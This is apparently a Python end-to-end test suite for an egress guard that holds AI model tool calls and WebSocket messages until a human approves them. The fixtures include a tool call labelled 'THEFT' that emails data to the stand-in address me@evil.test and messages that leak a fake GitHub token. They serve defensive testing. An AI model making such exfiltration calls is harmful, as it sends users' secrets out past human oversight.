"""What is held open besides requests: calls in models' answers, messages of WebSockets.

Real clients (OpenAI, Anthropic, Google, websockets) behind a listener of one server; some behind a
forward listener as well.
"""

import asyncio
from contextlib import AsyncExitStack, asynccontextmanager

import httpx
import pytest
from websockets.asyncio.client import connect
from websockets.asyncio.server import serve
from websockets.exceptions import ConnectionClosed

from guard.processes.loopback import free_port
from tests.e2e.approval_desk import SECONDS, holding
from tests.e2e.clients import Posting
from tests.e2e.running_guard import Elsewhere, Upstream
from tests.e2e.test_model_sdks import CLIENTS
from tests.e2e.test_model_sdks import answer as model_answer
from tests.e2e.test_websockets import POLICY as BLOCKING
from tests.model_clients import ask

pytestmark = pytest.mark.e2e

THEFT = ("call_0", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
HOLD = "version: 1\nname: hold\nask: {hold: 5m, quiet: 5m}\n"
SOCKETS = BLOCKING.replace("mode: enforce", "mode: enforce\nask: {hold: 5m}").replace(
    "effect: block", "effect: ask"
)
TOKEN = "ghp_" + "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"


def forwarding(directory, proxy):
    """Return options for a forward listener besides the other one."""
    return "--forward", f"127.0.0.1:{proxy}", "--ca", str(directory / "ca")


def opened(port):
    """Return the part of a policy that lets a forward listener connect to a local server."""
    return f"\negress: {{ports: [{port}], private: [localhost]}}\n"


async def answered(people, *, granted):
    """Answer what waits, once something does; return the id of one request."""
    found = await people.asked()
    await people.answer(*found, granted=granted)
    return found[0]


# --- models' answers -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def model(tmp_path_factory, no_proxy):
    """Return a guard in front of a model server."""
    server = Upstream()
    server.answer = model_answer
    options = ("--model-api", f"127.0.0.1:{server.port}")
    with holding(tmp_path_factory.mktemp("model"), HOLD, server, *options) as place:
        yield place


@CLIENTS
async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(model, api):
    """One yes releases one, and a no reads as words; every client waits that long."""
    found = []
    async with model.desk() as people:
        for granted in (True, False):
            asking = asyncio.to_thread(ask, api, model.url, "please theft", streamed=True)
            waiting = asyncio.ensure_future(asking)
            await answered(people, granted=granted)
            found.append((await waiting)[:2])

    assert found[0] == ("Let me see. ", [THEFT])
    assert found[1][1] == []
    assert "by the egress guard and did not reach the tool" in found[1][0]


# --- WebSockets ----------------------------------------------------------------------------------


class Socket:
    """A server that keeps what it is told, and says something when it is asked to."""

    def __init__(self):
        self.heard = []
        self.connection = None

    async def serve(self, connection):
        """Serve one client."""
        self.connection = connection
        async for message in connection:
            self.heard.append(str(message))


@asynccontextmanager
async def socket_place(directory, *more, forward):
    """Yield a client, the server behind a guard, and the people that answer."""
    server, proxy = Socket(), free_port()
    async with AsyncExitStack() as stack:
        listening = await stack.enter_async_context(serve(server.serve, "127.0.0.1", 0))
        port = next(iter(listening.sockets)).getsockname()[1]
        options = (*more, *forwarding(directory, proxy)) if forward else more
        text = SOCKETS + (opened(port) if forward else "")
        started = holding(directory, text, Elsewhere(port), *options, alone=True)
        place = stack.enter_context(started)
        people = await stack.enter_async_context(place.desk())
        client = connect(
            f"ws://localhost:{port if forward else place.guard.port}/chat",
            proxy=f"http://127.0.0.1:{proxy}" if forward else None,
            compression=None,
            ping_interval=None,
        )
        yield await stack.enter_async_context(client), server, people


@pytest.mark.parametrize("forward", [False, True])
async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(tmp_path, forward):
    """Pings are answered and the server is heard; what the client sends next keeps its place."""
    async with socket_place(tmp_path, forward=forward) as (client, server, people):
        await client.send("hello")
        await client.send(f"the key is {TOKEN}")
        await people.asked()
        async with asyncio.timeout(SECONDS):
            for number in range(3):
                await client.send(f"after {number}")
                await (await client.ping())
            assert server.connection is not None
            await server.connection.send("are you there?")
            heard = await client.recv()
            before = list(server.heard)
            # Joined with the first one, each of the others has the key in it as well.
            for number in range(4):
                await answered(people, granted=True)
                while len(server.heard) < 2 + number:  # noqa: ASYNC110  (nobody is told)
                    await asyncio.sleep(0.02)
            await client.send(f"another key is {TOKEN}")
            await answered(people, granted=False)
            with pytest.raises(ConnectionClosed) as closed:
                await client.recv()

    assert heard == "are you there?"
    assert before == ["hello"]
    assert server.heard == ["hello", f"the key is {TOKEN}", "after 0", "after 1", "after 2"]
    assert closed.value.rcvd is not None
    assert closed.value.rcvd.code == 1008


async def test_what_waits_behind_a_message_has_a_bound(tmp_path):
    """Behind mitmproxy as many bytes as a body may have; more of them end the WebSocket."""
    place = socket_place(tmp_path, "--body-limit", "64k", forward=True)
    async with place as (client, server, people):
        await client.send(f"the key is {TOKEN}")
        await people.asked()
        for _ in range(3):
            await client.send("x" * 30_000)
        with pytest.raises(ConnectionClosed) as closed:
            await asyncio.wait_for(client.recv(), SECONDS)

    assert server.heard == []
    assert closed.value.rcvd is not None
    assert closed.value.rcvd.code == 1008


async def test_what_comes_while_a_call_is_held_has_a_bound(tmp_path):
    """A model server that goes on and on, meanwhile, is cut off; the call is not released."""

    def flood(request):
        head, _, body = model_answer(request).partition(b"\r\n\r\n")
        whole = body + b": on and on\n\n" * 20_000
        start = head.partition(b"content-length: ")[0] + b"transfer-encoding: chunked\r\n\r\n"
        return start + b"%x\r\n%b\r\n0\r\n\r\n" % (len(whole), whole)

    server, proxy = Upstream(), free_port()
    server.answer = flood
    options = ("--model-api", f"localhost:{server.port}", "--body-limit", "64k")
    with holding(
        tmp_path, HOLD + opened(server.port), server, *options, *forwarding(tmp_path, proxy)
    ):
        message = {"role": "user", "content": "please theft"}
        document = {"model": "m", "stream": True, "messages": [message]}
        url = f"http://localhost:{server.port}/v1/chat/completions"
        asked = Posting(url, document, f"http://127.0.0.1:{proxy}")
        async with asyncio.timeout(SECONDS):
            [ended] = await asyncio.gather(asked.task, return_exceptions=True)

    assert isinstance(ended, httpx.HTTPError)
    assert "email_send_email" not in asked.text
